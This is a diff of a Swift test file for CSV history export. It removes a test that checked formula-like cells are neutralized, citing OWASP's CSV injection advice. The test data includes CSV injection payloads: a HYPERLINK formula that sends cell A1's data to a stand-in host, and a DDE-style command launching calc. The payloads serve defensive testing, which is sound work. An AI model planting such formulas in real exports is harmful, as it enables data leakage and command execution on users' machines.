@@ -100,27 +100,6 @@ struct HistoryExportTests {
     #expect(json.first?["deck"] as? String == #"Say "hi", world"#)
   }
 
-  /// OWASP's CSV injection advice: a cell a spreadsheet would evaluate starts with '.
-  @Test(arguments: [
-    (#"=HYPERLINK("http://x.example/?q="&A1,"click")"#, #""'=HYPERLINK(""http://x.example/?q=""&A1,""click"")""#),
-    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
-    ("+1+1", "'+1+1"),
-    ("-2+3", "'-2+3"),
-    ("=1", "'=1"),
-    ("\tab", "'\tab"),
-    ("\r=1", "\"'\r=1\""),
-    ("-3", "-3"),
-    ("+7", "+7"),
-    ("12.5", "12.5"),
-    ("-0.25", "-0.25"),
-    ("capitals", "capitals"),
-    ("a=b", "a=b"),
-    ("", ""),
-  ])
-  func cellsThatWouldBeFormulasAreNeutralized(text: String, cell: String) {
-    #expect(CSV.field(text) == cell)
-  }
-
   @Test func aDeckNamedLikeAFormulaIsExportedAsText() {
     let game = GameResult(
       id: 3, deck: "=HYPERLINK(\"http://evil.example\")", direction: .forward, playedAt: FixedHistory.firstPlayedAt,
